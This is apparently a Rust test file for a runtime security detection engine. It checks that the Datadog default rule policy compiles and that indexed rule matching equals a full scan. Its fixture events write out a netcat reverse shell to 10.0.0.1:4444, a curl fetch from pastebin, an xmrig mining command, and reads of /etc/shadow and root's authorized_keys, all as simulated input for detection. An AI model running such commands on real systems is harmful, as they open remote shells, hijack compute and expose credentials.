//! The Datadog default policy (319 rules) must compile at ≥ 95 %. The file lives beside the repository
//! (`../shared/reference/datadog-policies/default.policy`) and is never copied into it.

use std::path::PathBuf;

use rampart_policy::{load_paths, HostInfo, LoadOptions, Status};

fn corpus() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/reference/datadog-policies/default.policy")
}

#[test]
fn datadog_default_policy_compiles() {
    let path = corpus();
    assert!(
        path.exists(),
        "compatibility corpus missing: {} (clone the repository with `shared/` beside it)",
        path.display()
    );
    let opts = LoadOptions {
        host: HostInfo {
            kernel: (6, 18, 0),
            ..HostInfo::default()
        },
        agent_version: None,
        typecheck_filtered: true,
        suppressions: Default::default(),
        deadline: None,
    };
    let loaded = load_paths(&[path], &opts).expect("read corpus");
    let report = &loaded.report;
    assert!(
        report.policy_errors().next().is_none(),
        "{:?}",
        report.policies
    );
    let c = report.counts();
    let mut failing = Vec::new();
    for e in &report.entries {
        match &e.status {
            Status::Error { reason } => {
                failing.push(format!("{} {}:{}: {reason}", e.id, e.line, e.col))
            }
            Status::Filtered {
                check: Some(reason),
                ..
            } => failing.push(format!(
                "{} (filtered) {}:{}: {reason}",
                e.id, e.line, e.col
            )),
            _ => {}
        }
    }
    let compiled = c.loaded + c.filtered_ok;
    eprintln!(
        "corpus: {} rules; {} loaded for Linux, {} filtered by `filters` of which {} type-check, {} failed; \
         {compiled}/{} compile ({:.1} %)",
        c.rules,
        c.loaded,
        c.filtered,
        c.filtered_ok,
        c.rules - compiled,
        c.rules,
        100.0 * compiled as f64 / c.rules as f64
    );
    for f in &failing {
        eprintln!("  FAIL {f}");
    }
    assert_eq!(c.rules, 319, "the corpus has 319 rules");
    assert_eq!(c.macro_errors, 0, "macros must all compile: {failing:#?}");
    assert!(
        compiled * 100 >= c.rules * 95,
        "only {compiled}/{} rules compile:\n{}",
        c.rules,
        failing.join("\n")
    );
    // Linux rules alone must meet the floor too (the Windows rules are filtered on Linux).
    let linux = c.rules - 37;
    assert!(
        c.loaded * 100 >= linux * 95,
        "only {}/{linux} Linux rules load",
        c.loaded
    );
}

/// The rule index (pre-selection by field value) must select exactly the rules a full scan matches.
#[test]
fn indexed_evaluation_equals_a_full_scan() {
    use rampart_model::events::{FileTarget, OpenEvent};
    use rampart_model::{Event, EventData, FileInfo, Process, ProcessContext, ProcessNode};
    use rampart_secl::{Cx, MemoryStore};
    let path = corpus();
    assert!(
        path.exists(),
        "compatibility corpus missing: {}",
        path.display()
    );
    let opts = LoadOptions {
        host: HostInfo::default(),
        agent_version: None,
        typecheck_filtered: false,
        suppressions: Default::default(),
        deadline: None,
    };
    let rs = load_paths(&[path], &opts).unwrap().ruleset;
    let mut events = Vec::new();
    let execs: &[(&str, &[&str])] = &[
        ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
        (
            "/usr/bin/apt-get",
            &["apt-get", "install", "linux-headers-generic"],
        ),
        ("/usr/bin/curl", &["curl", "http://pastebin.com/raw/x"]),
        (
            "/tmp/xmrig",
            &["xmrig", "--donate-level=1", "-o", "stratum+tcp://pool:3333"],
        ),
        ("/usr/bin/ls", &["ls", "-la"]),
        ("/usr/bin/python3", &["python3", "KubiScan.py"]),
    ];
    for (parent, leaf) in [
        ("/usr/sbin/nginx", 0usize),
        ("/usr/sbin/sshd", 1),
        ("/usr/bin/containerd-shim", 2),
    ] {
        for (bin, argv) in execs.iter().skip(leaf % 2) {
            let p = ProcessNode::new(
                Process {
                    pid: 10,
                    file: FileInfo::from_path(parent),
                    ..Default::default()
                },
                None,
            );
            let mut c = Process {
                pid: 20,
                file: FileInfo::from_path(*bin),
                comm: FileInfo::from_path(*bin).name,
                ..Default::default()
            };
            c.set_argv(argv.iter().map(|s| s.to_string()).collect());
            c.credentials.auid = u32::MAX;
            let mut ev = Event::exec(1, ProcessNode::new(c, Some(p)));
            ev.event.origin = "ebpf".into();
            events.push(ev);
        }
    }
    for (path, flags) in [
        ("/etc/shadow", 1),
        ("/etc/sudoers.d/x", 0o101),
        ("/root/.ssh/authorized_keys", 2),
        ("/srv/x", 0),
    ] {
        let node = ProcessNode::new(
            Process {
                pid: 30,
                file: FileInfo::from_path("/usr/bin/vim"),
                ..Default::default()
            },
            None,
        );
        let data = EventData::Open(OpenEvent {
            file: FileTarget::from_path(path),
            flags,
            retval: 0,
            syscall: None,
        });
        events.push(Event::new(1, ProcessContext::new(node), data));
    }
    let mut total = 0;
    for ev in &events {
        let store = MemoryStore::new();
        let indexed: Vec<String> = rs
            .evaluate(ev, &store)
            .iter()
            .map(|m| m.rule.id.clone())
            .collect();
        let store = MemoryStore::new();
        let cx = Cx::new(ev, &store);
        let full: Vec<String> = rs
            .rules_for(ev.event_type())
            .iter()
            .filter(|r| r.matches(&cx))
            .map(|r| r.id.clone())
            .collect();
        assert_eq!(
            indexed,
            full,
            "event {}",
            serde_json::to_string(ev).unwrap()
        );
        total += full.len();
    }
    assert!(
        total >= 8,
        "the fixture events should trigger several rules, got {total}"
    );
}
